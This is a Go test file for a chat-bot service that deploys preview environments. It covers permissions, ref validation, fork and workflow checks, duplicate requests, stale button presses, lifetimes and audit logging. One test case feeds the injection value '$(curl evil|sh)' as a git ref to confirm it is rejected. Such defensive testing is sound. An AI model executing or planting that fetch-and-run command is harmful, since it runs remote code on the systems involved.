package environments_test

import (
	"context"
	"encoding/json"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"bellhop/chat"
	"bellhop/environments"
)

func TestDeployIsDecided(t *testing.T) {
	cases := map[string]struct {
		ask  func(a *environments.DeployAsk)
		code environments.Code
	}{
		"good":         {func(*environments.DeployAsk) {}, environments.CodeOK},
		"pull request": {func(a *environments.DeployAsk) { a.Ref, a.PullRequest = "", 482 }, environments.CodeOK},
		"guest":        {func(a *environments.DeployAsk) { a.Person = gita }, environments.CodeNotPermitted},
		"unknown ref":  {func(a *environments.DeployAsk) { a.Ref = "$(curl evil|sh)" }, environments.CodeRefUnknown},
		"no ref":       {func(a *environments.DeployAsk) { a.Ref = "" }, environments.CodeRefUnknown},
		"unknown pull": {func(a *environments.DeployAsk) { a.Ref, a.PullRequest = "", 1 }, environments.CodeRefUnknown},
		"fork":         {func(a *environments.DeployAsk) { a.Ref, a.PullRequest = "", 666 }, environments.CodeFork},
		"unknown kind": {func(a *environments.DeployAsk) { a.Kind = "moon" }, environments.CodeKindUnknown},
		"library":      {func(a *environments.DeployAsk) { a.Component.Repository = "" }, environments.CodeNotDeployable},
		"workflow": {func(a *environments.DeployAsk) {
			a.Component.Workflow = environments.Workflow{Repository: "acme/platform", File: "other.yml", Ref: "main"}
		}, environments.CodeOK},
		"workflow elsewhere": {func(a *environments.DeployAsk) {
			a.Component.Workflow = environments.Workflow{Repository: "evil/x", File: "y.yml", Ref: "main"}
		}, environments.CodeWorkflowNotAllowed},
		"too long": {func(a *environments.DeployAsk) { a.For = 1000 * time.Hour }, environments.CodeLifetime},
	}
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			c := newCompany()
			ask := c.ask()
			tc.ask(&ask)
			answer, err := c.service.Deploy(context.Background(), ask)
			require.NoError(t, err)
			require.Equal(t, tc.code, answer.Decision.Code())
			require.Equal(t, tc.code == environments.CodeOK, answer.Decision.Outcome == environments.Allowed)
			history, err := c.store.History(context.Background(), environments.HistoryFilter{})
			require.NoError(t, err)
			require.Len(t, history, 1, "every request is written down")
			require.Equal(t, tc.code, history[0].Code)
			kept, err := json.Marshal([]any{history[0].Request, history[0].World, history[0].Decision})
			require.NoError(t, err)
			require.NotContains(t, string(kept), "Alice")
			require.NotContains(t, string(kept), "U01ALICE", "people stand in the audit by their key alone")
			list, err := c.service.List(context.Background(), environments.Filter{})
			require.NoError(t, err)
			require.Len(t, list, map[bool]int{true: 1}[tc.code == environments.CodeOK])
		})
	}
}

func TestASecondDeployIsRefused(t *testing.T) {
	ctx := context.Background()
	c := newCompany()
	first, err := c.service.Deploy(ctx, c.ask())
	require.NoError(t, err)
	again, err := c.service.Deploy(ctx, c.ask())
	require.NoError(t, err)
	require.Equal(t, environments.Allowed, again.Decision.Outcome, "a redelivery of the same request is the same deployment")
	require.Equal(t, first.Environment.Deployment.ID, again.Environment.Deployment.ID)

	other := c.ask()
	other.RequestID, other.Person = "another", bob
	refused, err := c.service.Deploy(ctx, other)
	require.NoError(t, err)
	require.Equal(t, environments.CodeInProgress, refused.Decision.Code())
	require.Equal(t, first.Environment.Deployment.ID, refused.Environment.Deployment.ID, "so that its card can be linked to")
	other.Kind = "staging"
	elsewhere, err := c.service.Deploy(ctx, other)
	require.NoError(t, err)
	require.Equal(t, environments.Allowed, elsewhere.Decision.Outcome)
	require.Equal(t, "payments-staging", elsewhere.Environment.Name())
	require.Zero(t, elsewhere.Environment.ExpiresAt)
}

func TestNamesAreNotShared(t *testing.T) {
	ctx := context.Background()
	c := deployed(t)
	c.settle(t, featureX)
	for _, spoil := range []func(a *environments.DeployAsk){
		func(a *environments.DeployAsk) { a.Component.Ref = "component:shop/payments" },
		func(a *environments.DeployAsk) { a.Component.Name, a.Kind = "payments-preview", "feature-x" },
	} {
		ask := c.ask()
		ask.RequestID = "another"
		spoil(&ask)
		kinds := options
		kinds.Kinds = append(kinds.Kinds, environments.Kind{Name: "feature-x", Preset: environments.Shared})
		answer, err := environments.NewService(c.store, &c.repos, kinds, c.clock, nil).Deploy(ctx, ask)
		require.NoError(t, err)
		require.Equal(t, environments.CodeNameTaken, answer.Decision.Code())
	}
	require.Equal(t, payments.Ref, c.environment(t, featureX).Component.Ref)
}

func TestSomebodyElsesIsAskedAbout(t *testing.T) {
	ctx := context.Background()
	c := deployed(t)
	c.settle(t, featureX)
	p := c.press(t)
	people := []chat.Person{bob, alice} // the second finds Bob's deployment
	for i, do := range []func(context.Context, environments.Press) (environments.Answer, error){c.service.Redeploy, c.service.Destroy} {
		p.Confirmed, p.Person = false, people[i]
		answer, err := do(ctx, p)
		require.NoError(t, err)
		require.Equal(t, environments.Confirm, answer.Decision.Outcome)
		require.Equal(t, environments.Ready, c.environment(t, featureX).State)
		p.Confirmed = true
		answer, err = do(ctx, p)
		require.NoError(t, err)
		require.Equal(t, environments.Allowed, answer.Decision.Outcome)
		c.settle(t, featureX)
		p.Deployment = c.environment(t, featureX).Deployment.ID
	}
	require.Equal(t, environments.Destroyed, c.environment(t, featureX).State)
}

func TestPressesThatComeTooLate(t *testing.T) {
	ctx := context.Background()
	c := deployed(t)
	c.settle(t, featureX)
	old := c.press(t)
	_, err := c.service.Redeploy(ctx, old)
	require.NoError(t, err)
	c.settle(t, featureX)
	answer, err := c.service.Destroy(ctx, old)
	require.NoError(t, err)
	require.Equal(t, environments.CodeStale, answer.Decision.Code())
	require.Equal(t, environments.Ready, c.environment(t, featureX).State)
	for _, do := range []func(context.Context, environments.Press) (environments.Answer, error){c.service.Redeploy, c.service.Destroy, c.service.Cancel} {
		answer, err := do(ctx, environments.Press{Person: alice, Environment: "no-such"})
		require.NoError(t, err)
		require.Equal(t, environments.CodeNothingThere, answer.Decision.Code())
	}
}

func TestAPressThatComesTwiceIsDoneOnce(t *testing.T) {
	ctx := context.Background()
	c := deployed(t)
	c.settle(t, featureX)
	p := c.press(t)
	p.RequestID = "press"
	for range 2 {
		answer, err := c.service.Destroy(ctx, p)
		require.NoError(t, err)
		require.Equal(t, environments.Allowed, answer.Decision.Outcome)
	}
	history, err := c.store.History(ctx, environments.HistoryFilter{Events: []environments.Event{environments.EventDestroy}})
	require.NoError(t, err)
	require.Len(t, history, 1)
	require.Equal(t, environments.Destroyed, c.settle(t, featureX).State)
}

func TestLifetimes(t *testing.T) {
	c := newCompany()
	ask := c.ask()
	ask.For = 48 * time.Hour
	_, err := c.service.Deploy(context.Background(), ask)
	require.NoError(t, err)
	e := c.settle(t, featureX)
	require.Equal(t, e.Operation.EndedAt.Add(48*time.Hour), e.ExpiresAt, "from the end of the deployment on")

	c = newCompany()
	ask.For, ask.Until = 0, c.clock.now.Add(5*time.Hour)
	_, err = c.service.Deploy(context.Background(), ask)
	require.NoError(t, err)
	require.Equal(t, ask.Until, c.settle(t, featureX).ExpiresAt)
}

func TestRefusalsElsewhereAreRecorded(t *testing.T) {
	c := newCompany()
	r := chat.Request{Person: gita, Place: chat.Place{Channel: "C02PAYMENTS", Kind: chat.PublicChannel}}
	require.NoError(t, c.service.RecordRefusal(context.Background(), r, "deploy-env", "Guests cannot."))
	history, err := c.store.History(context.Background(), environments.HistoryFilter{Events: []environments.Event{environments.EventDeploy}})
	require.NoError(t, err)
	require.Len(t, history, 1)
	require.Equal(t, environments.CodeNotPermitted, history[0].Code)
	require.Equal(t, "U12GITA", history[0].Person.ID)
	require.Equal(t, "C02PAYMENTS", history[0].Channel)
}
